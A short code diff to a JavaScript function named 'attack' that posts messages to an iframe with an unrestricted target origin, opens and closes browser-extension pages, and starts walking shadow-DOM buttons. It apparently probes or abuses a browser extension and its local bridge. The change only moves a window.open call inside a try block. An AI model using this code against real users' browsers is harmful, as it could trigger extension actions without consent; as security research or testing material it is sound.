@@ -53,9 +53,8 @@ async function attack({ bridgePort, extensionOrigin }) {
     await new Promise((done) => { frame.onload = frame.onerror = done; setTimeout(done, 300) })
     try {
       frame.contentWindow.postMessage(request, '*')
+      window.open(extensionOrigin + '/' + path)?.close()
     } catch (error) {}
-    const opened = window.open(extensionOrigin + '/' + path)
-    opened?.close()
   }
   for (const host of document.querySelectorAll('*')) {
     for (const button of host.shadowRoot?.querySelectorAll('button') ?? []) {
